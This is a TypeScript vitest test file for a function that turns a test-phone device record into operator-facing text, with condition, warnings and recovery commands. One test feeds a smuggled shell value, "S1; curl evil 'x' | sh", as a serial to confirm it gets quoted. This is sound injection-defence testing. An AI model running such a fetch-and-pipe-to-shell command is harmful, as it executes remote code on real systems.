import type { Device } from '../operator/client.js'
import { describe, expect, it } from 'vitest'
import { describeDevice } from './device-text.js'

const device: Device = {
  id: 'dev_a',
  host_id: 'hst_a',
  host_name: 'rack 1',
  host_state: 'online',
  serial: 'S1',
  maker: 'Acme',
  model: 'One',
  sdk: 34,
  state: 'free',
  reason: null,
  next_step: null,
  report_fault: null,
  phone_id: null,
  fencing_number: 4,
  clean_for: null,
  link: 'healthy',
  drained_at: null,
  drain_until: null,
  maintenance: null,
  moving_since: null,
  claimed_since: null,
  has_identity: true,
  last_proof_at: null,
  capabilities: [{ name: 'text', implementation: 'scrcpy', evidence: 'read back' }],
  wipe_checks: [],
  events: [],
  condition: null,
}

describe('a phone', () => {
  it('says which fields are unknown', () => {
    const text = describeDevice(device)
    expect(text).toContain('Condition not checked yet.')
    expect(text).toContain('No recovery steps.')
    expect(text).toMatch(/CAPABILITY\s+BY\s+EVIDENCE\ntext\s+scrcpy\s+read back/)
  })

  it('says what to do about a quarantine', () => {
    const text = describeDevice({
      ...device,
      next_step: {
        first: 'Take the SIM out.',
        commands: [{ does: 'wipes it', words: ['device', 'release', 'S1'] }],
      },
    })
    expect(text).toMatch(/Next +Take the SIM out\.\nThen +\.\/scripts\/ctl device release S1 \(wipes it\)/)
  })

  it("quotes a host's serial in a command for the shell", () => {
    const text = describeDevice({
      ...device,
      next_step: {
        first: null,
        commands: [{ does: 'wipes it', words: ['device', 'release', "S1; curl evil 'x' | sh"] }],
      },
    })
    expect(text).toContain(String.raw`./scripts/ctl device release 'S1; curl evil '\''x'\'' | sh' (wipes it)`)
  })

  it('shows its state, its warnings and the recovery steps', () => {
    const text = describeDevice({
      ...device,
      report_fault: 'Not read: sdk (invalid_type)',
      events: [
        { at: '2026-01-01T00:00:00.000Z', step: 'port_reset', outcome: 'skipped', reason: 'no\u001b root' },
      ],
      condition: {
        checked_at: '2026-01-01T00:00:00.000Z',
        battery_percent: 9,
        battery_celsius: 24.9,
        storage_free_bytes: 12_300_000_000,
        storage_total_bytes: 64_000_000_000,
        highest_app_uid: null,
        lock_credential: true,
        warnings: ['the battery is at 9 %'],
      },
    })
    expect(text).toMatch(/Report\s+Not read: sdk/)
    expect(text).toMatch(/Battery\s+9 %/)
    expect(text).toMatch(/Battery temperature\s+24\.9 °C/)
    expect(text).toMatch(/Storage free\s+12\.3 GB of 64\.0 GB/)
    expect(text).toMatch(/Highest app UID\s+-/)
    expect(text).toMatch(/Lock credential\s+SET/)
    expect(text).toContain('WARNING  the battery is at 9 %')
    expect(text).toMatch(/2026-01-01T00:00:00\.000Z\s+port reset\s+skipped\s+no root/)
  })
})
